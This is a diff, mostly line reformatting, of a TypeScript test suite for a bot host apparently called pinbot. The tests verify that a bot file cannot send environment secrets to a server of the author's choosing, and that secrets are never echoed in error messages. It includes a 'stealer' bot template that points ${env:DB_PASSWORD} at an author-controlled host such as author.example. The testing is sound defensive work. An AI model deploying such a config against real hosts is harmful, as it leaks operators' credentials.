@@ -19,13 +19,20 @@ async function collector(): Promise<{ url: string; keys: string[]; close(): Prom
   const server: Server = createServer((req: IncomingMessage, res) => {
     const key = req.headers['x-api-key'];
     if (typeof key === 'string') keys.push(key);
-    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ id: 'u', pin_code: 'AAA111', display_name: 'x', messages: [], transfers: [] }));
+    res
+      .writeHead(200, { 'content-type': 'application/json' })
+      .end(JSON.stringify({ id: 'u', pin_code: 'AAA111', display_name: 'x', messages: [], transfers: [] }));
   });
   await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
-  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, keys, close: () => new Promise((r) => (server.closeAllConnections(), server.close(() => r()))) };
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    keys,
+    close: () => new Promise((r) => (server.closeAllConnections(), server.close(() => r()))),
+  };
 }
 
-const stealer = (server: string, key: string) => `name: helpful\nserver: ${server}\nkey: "${key}"\nrules:\n  - on: message.received\n    do:\n      - reply: hi\n`;
+const stealer = (server: string, key: string) =>
+  `name: helpful\nserver: ${server}\nkey: "${key}"\nrules:\n  - on: message.received\n    do:\n      - reply: hi\n`;
 
 let w: BotWorld | undefined;
 let author: Awaited<ReturnType<typeof collector>> | undefined;
@@ -40,14 +47,22 @@ afterEach(async () => {
 describe('a bot file cannot send an environment variable to a host of its choosing', () => {
   it('the host refuses the file (key outside PINBOT_KEY_…, server not allowed): the author receives nothing', async () => {
     author = await collector();
-    w = await botWorld({ host: { env: { DB_PASSWORD: SECRET, PINBOT_KEY_HELPFUL: 'pinbot_k' } }, bots: { 'helpful.yaml': stealer(author.url, '${env:DB_PASSWORD}') } });
+    w = await botWorld({
+      host: { env: { DB_PASSWORD: SECRET, PINBOT_KEY_HELPFUL: 'pinbot_k' } },
+      bots: { 'helpful.yaml': stealer(author.url, '${env:DB_PASSWORD}') },
+    });
     const [status] = await w.host.start();
     expect(status).toMatchObject({ status: 'invalid' });
     expect(status!.problems!.join('\n')).toContain('helpful.yaml:3:7: key: ${env:DB_PASSWORD} is not allowed in key');
     // even a key meant for bots does not go to a server the operator has not listed
     w.writeBot('helpful.yaml', stealer(author.url, '${env:PINBOT_KEY_HELPFUL}'));
     const [again] = await w.host.reload();
-    expect(again).toMatchObject({ status: 'invalid', problems: [expect.stringContaining(`helpful.yaml:2:9: server: ${author.url} is not a server the operator allows`)] });
+    expect(again).toMatchObject({
+      status: 'invalid',
+      problems: [
+        expect.stringContaining(`helpful.yaml:2:9: server: ${author.url} is not a server the operator allows`),
+      ],
+    });
     expect(author.keys).toEqual([]);
   });
 
@@ -70,7 +85,11 @@ describe('a bot file cannot send an environment variable to a host of its choosi
     const bot = join(dir, 'helpful.yaml');
     writeFileSync(bot, stealer('http://author.example:8080', '${env:DB_PASSWORD}'));
     const config = join(dir, 'config.yaml');
-    const validate = () => spawnSync(process.execPath, ['bin/pinbot.js', 'bots', 'validate', '--config', config, bot], { encoding: 'utf8', env: { ...process.env, DB_PASSWORD: SECRET } });
+    const validate = () =>
+      spawnSync(process.execPath, ['bin/pinbot.js', 'bots', 'validate', '--config', config, bot], {
+        encoding: 'utf8',
+        env: { ...process.env, DB_PASSWORD: SECRET },
+      });
     writeFileSync(config, 'bots: {}\n');
     let r = validate();
     expect(r.status).toBe(1);
@@ -111,8 +130,16 @@ describe('${env:…} hidden elsewhere in a bot file (review of issue 21 item 5)'
 
 describe('a value read from the environment is never quoted in a problem (review)', () => {
   it('a server: URL with a password that is not valid names ${env:PINBOT_SERVER_URL}, not the URL', () => {
-    for (const url of ['ftp://deploy:pa55word-xyz@api.example/', 'api.example with pa55word-xyz', 'https//deploy:pa55word-xyz@api.example']) {
-      const r = loadBot('b.yaml', 'name: b\nkey: "${env:PINBOT_KEY_X}"\nserver: "${env:PINBOT_SERVER_URL}"\nrules:\n  - on: message.received\n    do: [{ reply: hi }]\n', { registry: createRegistry(), env: { PINBOT_KEY_X: 'pinbot_k', PINBOT_SERVER_URL: url } });
+    for (const url of [
+      'ftp://deploy:pa55word-xyz@api.example/',
+      'api.example with pa55word-xyz',
+      'https//deploy:pa55word-xyz@api.example',
+    ]) {
+      const r = loadBot(
+        'b.yaml',
+        'name: b\nkey: "${env:PINBOT_KEY_X}"\nserver: "${env:PINBOT_SERVER_URL}"\nrules:\n  - on: message.received\n    do: [{ reply: hi }]\n',
+        { registry: createRegistry(), env: { PINBOT_KEY_X: 'pinbot_k', PINBOT_SERVER_URL: url } },
+      );
       expect(r.bot, url).toBeUndefined();
       const text = JSON.stringify([r.problems, r.warnings]);
       expect(text, url).not.toContain('pa55word');
